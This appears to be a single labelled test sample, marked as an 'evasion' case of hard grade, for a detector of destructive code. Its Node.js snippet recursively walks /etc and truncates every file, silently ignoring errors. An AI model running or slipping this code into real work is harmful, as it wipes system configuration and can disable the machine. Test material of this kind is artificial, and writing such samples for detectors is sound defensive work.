// evasion: every file under /etc truncated by fs/promises' truncate in a for-await loop over a recursive readdir
// grade: hard; does: delete
const fsp = require("fs/promises");
const path = require("path");
(async () => {
  for (const f of await fsp.readdir("/etc", { recursive: true })) {
    await fsp.truncate(path.join("/etc", f)).catch(() => {});
  }
})();
